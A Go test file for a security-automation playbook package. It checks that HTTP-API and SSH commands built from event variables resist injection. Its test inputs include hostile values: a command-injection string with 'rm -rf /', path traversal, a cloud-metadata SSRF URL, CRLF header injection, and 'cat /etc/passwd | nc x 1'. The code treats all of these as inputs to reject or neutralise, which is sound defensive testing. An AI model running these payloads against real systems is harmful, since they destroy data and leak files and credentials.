package playbook

import (
	"encoding/base64"
	"reflect"
	"strings"
	"testing"
)

// bindPlaybook has one http-api target per address shape and an ssh target.
func bindPlaybook() *Playbook {
	return &Playbook{
		Targets: map[string]*AgentTarget{
			"http-api--dname": {Type: "http-api", Address: map[string][]any{"dname": {"fw.example.com"}}},
			"http-api--tls":   {Type: "http-api", Address: map[string][]any{"ipv4": {"192.0.2.10"}}, Port: "443"},
			"http-api--v6":    {Type: "http-api", Address: map[string][]any{"ipv6": {"2001:db8::1"}}, Port: "8080"},
			"http-api--url":   {Type: "http-api", Address: map[string][]any{"url": {"https://fw.example.com/api/v1/"}}},
			"http-api--var":   {Type: "http-api", Address: map[string][]any{"dname": {"__host__:value"}}},
			"http-api--bad":   {Type: "http-api", Address: map[string][]any{"dname": {"hxxp://example.com/v1/"}}},
			"http-api--cred":  {Type: "http-api", Address: map[string][]any{"url": {"https://u:p@fw.example.com/"}}},
			"ssh--host":       {Type: "ssh", Address: map[string][]any{"ipv4": {"192.0.2.20"}}},
			"ssh--port":       {Type: "ssh", Address: map[string][]any{"dname": {"bastion.example.com"}}, Port: "2222"},
			"individual--x":   {Type: "individual", Name: "x"},
		},
	}
}

// Hostile values, as an event could carry them.
var bindScope = Scope{
	"__ip__":     "192.0.2.7",
	"__path__":   "../../admin?x=1#frag",
	"__dots__":   "..",
	"__scheme__": "http://169.254.169.254/latest",
	"__q__":      "a&admin=1 b",
	"__json__":   `"}, "admin": true, "x": "`,
	"__crlf__":   "v\r\nX-Injected: 1",
	"__host__":   "evil.example@169.254.169.254",
	"__cmd__":    "x; rm -rf / $(id) `id` 'q'",
}

func TestHTTPRequestArgs(t *testing.T) {
	pb := bindPlaybook()
	for _, tc := range []struct {
		name    string
		targets []string
		cmd     Command
		want    map[string]any // the keys checked; nil = error
		err     string
	}{
		{name: "dname, port 80 by default", targets: []string{"http-api--dname"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "POST /block/__ip__:value HTTP/1.1"},
			want: map[string]any{"method": "POST", "url": "http://fw.example.com/block/192.0.2.7"}},
		{name: "port 443 is https", targets: []string{"http-api--tls"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET /status HTTP/1.1"},
			want: map[string]any{"url": "https://192.0.2.10/status"}},
		{name: "ipv6 and a port", targets: []string{"http-api--v6"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET /x"},
			want: map[string]any{"url": "http://[2001:db8::1]:8080/x"}},
		{name: "relative to a url address", targets: []string{"http-api--url"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET rules HTTP/1.1"},
			want: map[string]any{"url": "https://fw.example.com/api/v1/rules"}},
		{name: "absolute path replaces a url address's path", targets: []string{"http-api--url"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET /health HTTP/1.1"},
			want: map[string]any{"url": "https://fw.example.com/health"}},
		{name: "SOARCA's HTTP1.1 and a path without slash", targets: []string{"http-api--dname"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET get HTTP1.1"},
			want: map[string]any{"url": "http://fw.example.com/get"}},
		{name: "a value stays in its path segment", targets: []string{"http-api--dname"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET /files/__path__:value/meta HTTP/1.1"},
			want: map[string]any{"url": "http://fw.example.com/files/..%2F..%2Fadmin%3Fx=1%23frag/meta"}},
		{name: "a value cannot climb the path", targets: []string{"http-api--url"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET __dots__:value/secret HTTP/1.1"},
			want: map[string]any{"url": "https://fw.example.com/api/v1/%2E%2E/secret"}},
		{name: "a value cannot become the scheme of a relative target", targets: []string{"http-api--dname"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET __scheme__:value HTTP/1.1"},
			want: map[string]any{"url": "http://fw.example.com/http%3A%2F%2F169.254.169.254%2Flatest"}},
		{name: "a value stays in its query value", targets: []string{"http-api--dname"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET /search?q=__q__:value&limit=5 HTTP/1.1"},
			want: map[string]any{"url": "http://fw.example.com/search?q=a%26admin%3D1+b&limit=5"}},
		{name: "JSON content is escaped", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdHTTPAPI, Command: "POST /rules HTTP/1.1", Headers: map[string][]string{"Content-Type": {"application/json"}},
				Content: `{"note":"__json__:value"}`},
			want: map[string]any{"text": `{"note":"\"}, \"admin\": true, \"x\": \""}`, "headers": map[string]any{"Content-Type": "application/json"}}},
		{name: "content_b64 is decoded, substituted, sent", targets: []string{"http-api--dname"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "POST /rules HTTP/1.1", ContentB64: base64.StdEncoding.EncodeToString([]byte(`{"ip":"__ip__:value"}`))},
			want: map[string]any{"text": `{"ip":"192.0.2.7"}`}},
		{name: "header values joined", targets: []string{"http-api--dname"},
			cmd:  Command{Type: CmdHTTPAPI, Command: "GET / HTTP/1.1", Headers: map[string][]string{"Accept": {"a/b", "c/d"}}},
			want: map[string]any{"headers": map[string]any{"Accept": "a/b, c/d"}}},
		{name: "absolute URL in the start line", cmd: Command{Type: CmdHTTPAPI, Command: "GET http://__imc_address__/by/__cve__"},
			want: map[string]any{"url": "http://__imc_address__/by/__cve__"}},
		{name: "the agent's address when no target has one", cmd: Command{Type: CmdHTTPAPI, Command: "GET /x"}, targets: []string{"individual--x"},
			err: "no http-api target with an address"},
		{name: "a line break in a header value", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdHTTPAPI, Command: "GET / HTTP/1.1", Headers: map[string][]string{"X-Note": {"__crlf__:value"}}},
			err: "line break or NUL"},
		{name: "a variable cannot add credentials to the host", targets: []string{"http-api--var"},
			cmd: Command{Type: CmdHTTPAPI, Command: "GET / HTTP/1.1"}, err: "not a host name or IP address"},
		{name: "a variable in an absolute URL's host is checked too",
			cmd: Command{Type: CmdHTTPAPI, Command: "GET http://__host__:value/x HTTP/1.1"}, err: "not a host name or IP address"},
		{name: "a URL is not a dname", targets: []string{"http-api--bad"},
			cmd: Command{Type: CmdHTTPAPI, Command: "GET / HTTP/1.1"}, err: "not a host name or IP address"},
		{name: "credentials in a url address", targets: []string{"http-api--cred"},
			cmd: Command{Type: CmdHTTPAPI, Command: "GET / HTTP/1.1"}, err: "carries credentials"},
		{name: "two addressed targets", targets: []string{"http-api--dname", "http-api--tls"},
			cmd: Command{Type: CmdHTTPAPI, Command: "GET / HTTP/1.1"}, err: "2 targets with addresses"},
		{name: "not a start line", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdHTTPAPI, Command: "/block"}, err: "not an HTTP start line"},
		{name: "a variable as the method", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdHTTPAPI, Command: "__q__:value / HTTP/1.1"}, err: "not an upper-case HTTP method"},
		{name: "an undeclared variable", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdHTTPAPI, Command: "GET /__nope__:value HTTP/1.1"}, err: "undefined variable __nope__"},
		{name: "openc2: POST to /openc2, typed", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdOpenC2HTTP, Command: "POST / HTTP/1.1", ContentB64: base64.StdEncoding.EncodeToString([]byte(`{"action":"deny"}`))},
			want: map[string]any{"method": "POST", "url": "http://fw.example.com/openc2", "text": `{"action":"deny"}`,
				"headers": map[string]any{"Content-Type": "application/openc2+json;version=1.0"}}},
		{name: "openc2 must POST", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdOpenC2HTTP, Command: "GET /openc2 HTTP/1.1", ContentB64: "e30="}, err: "must be POST"},
		{name: "openc2 needs a message", targets: []string{"http-api--dname"},
			cmd: Command{Type: CmdOpenC2HTTP, Command: "POST /openc2 HTTP/1.1"}, err: "no OpenC2 message"},
	} {
		st := &Step{Targets: tc.targets, Agent: "individual--x"}
		pb.Agents = map[string]*AgentTarget{"individual--x": {Type: "individual"}}
		got, err := HTTPRequestArgs(pb, st, &tc.cmd, bindScope)
		if tc.want == nil {
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("%s: want error %q, got %v (args %v)", tc.name, tc.err, err, got)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tc.name, err)
			continue
		}
		for k, v := range tc.want {
			if !reflect.DeepEqual(got[k], v) {
				t.Errorf("%s: %s = %#v, want %#v", tc.name, k, got[k], v)
			}
		}
	}
}

func TestSSHArgs(t *testing.T) {
	pb := bindPlaybook()
	for _, tc := range []struct {
		name    string
		targets []string
		cmd     Command
		want    *SSHCall
		err     string
	}{
		{name: "a value is one word whatever it holds", targets: []string{"ssh--host"},
			cmd:  Command{Type: CmdSSH, Command: "touch __cmd__:value"},
			want: &SSHCall{Host: "192.0.2.20", Argv: []string{"touch", "x; rm -rf / $(id) `id` 'q'"}}},
		{name: "SOARCA's whole command in a variable stays one word", targets: []string{"ssh--host"},
			cmd:  Command{Type: CmdSSH, Command: "__cmd__:value"},
			want: &SSHCall{Host: "192.0.2.20", Argv: []string{"x; rm -rf / $(id) `id` 'q'"}}},
		{name: "quotes group words; a value inside them stays inside", targets: []string{"ssh--port"},
			cmd:  Command{Type: CmdSSH, Command: `nft add element inet t s '{ __ip__:value }' "a b" c\ d`},
			want: &SSHCall{Host: "bastion.example.com", Port: "2222", Argv: []string{"nft", "add", "element", "inet", "t", "s", "{ 192.0.2.7 }", "a b", "c d"}}},
		{name: "command_b64", targets: []string{"ssh--host"},
			cmd:  Command{Type: CmdSSH, CommandB64: base64.StdEncoding.EncodeToString([]byte("ls -la /tmp"))},
			want: &SSHCall{Host: "192.0.2.20", Argv: []string{"ls", "-la", "/tmp"}}},
		{name: "a pipe", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "cat /etc/passwd | nc x 1"}, err: `shell syntax '|'`},
		{name: "a list", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "ls; reboot"}, err: `shell syntax ';'`},
		{name: "command substitution", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "echo $(id)"}, err: `shell syntax '$'`},
		{name: "expansion in double quotes", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: `echo "$HOME"`}, err: "inside double quotes"},
		{name: "a redirection", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "echo x > /etc/motd"}, err: `shell syntax '>'`},
		{name: "a glob", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "rm /tmp/*"}, err: `shell syntax '*'`},
		{name: "a newline", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "ls\nreboot"}, err: `shell syntax '\n'`},
		{name: "an open quote", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "echo 'x"}, err: "unterminated single quote"},
		{name: "no ssh target", targets: []string{"individual--x"}, cmd: Command{Type: CmdSSH, Command: "ls"}, err: "no ssh target with an address"},
		{name: "an empty command", targets: []string{"ssh--host"}, cmd: Command{Type: CmdSSH, Command: "  "}, err: "empty"},
	} {
		st := &Step{Targets: tc.targets}
		got, err := SSHArgs(pb, st, &tc.cmd, bindScope)
		if tc.want == nil {
			if err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("%s: want error %q, got %v (%+v)", tc.name, tc.err, err, got)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tc.name, err)
			continue
		}
		if !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%s: got %+v, want %+v", tc.name, got, tc.want)
		}
	}
}

// FuzzShellWords: whatever the command, the split never yields a word
// that came from outside quotes holding shell syntax, and never panics.
func FuzzShellWords(f *testing.F) {
	for _, s := range []string{"ls -la", `a 'b c' "d" e\ f`, "x; y", `"$x"`, "'", `\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		words, err := shellWords(s)
		if err != nil {
			return
		}
		if !strings.ContainsAny(s, `'"\`) {
			// Unquoted: nothing special may have been accepted.
			for _, w := range words {
				if strings.ContainsAny(w, ";&|<>()$`\n*?[]{}") {
					t.Fatalf("%q split into %q", s, words)
				}
			}
		}
	})
}
